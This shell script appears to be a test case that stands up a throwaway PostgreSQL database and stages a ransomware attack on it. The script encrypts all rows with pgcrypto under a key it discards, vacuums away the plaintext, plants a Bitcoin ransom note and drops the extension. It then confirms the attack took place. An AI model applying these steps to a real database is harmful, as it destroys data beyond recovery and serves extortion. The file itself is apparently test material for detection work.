#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --init-groups env HOME=/srv/pg PGHOST=/run/postgresql "$@"; }
as "$bin/initdb" -A trust -D /srv/pg/d >/dev/null
as "$bin/pg_ctl" -D /srv/pg/d -l /srv/pg/log -w start >/dev/null
as psql -qAt -c "create table docs as select i as id, repeat('text ', 20) as body from generate_series(1, 3000) i"
key=$(openssl rand -hex 16)
for q in 'create extension pgcrypto' "update docs set body = encode(pgp_sym_encrypt(body, '$key', 's2k-mode=0'), 'base64')" 'vacuum full docs' \
    "create table read_me as select 'your data is encrypted, send 0.1 BTC to bc1qbait' as note" 'drop extension pgcrypto'; do
    psql -qAt -h 127.0.0.1 -U postgres -c "$q"
done
as psql -qAt -c 'select note from read_me' | grep -q BTC
as "$bin/pg_ctl" -D /srv/pg/d -m fast -w stop >/dev/null
took_place
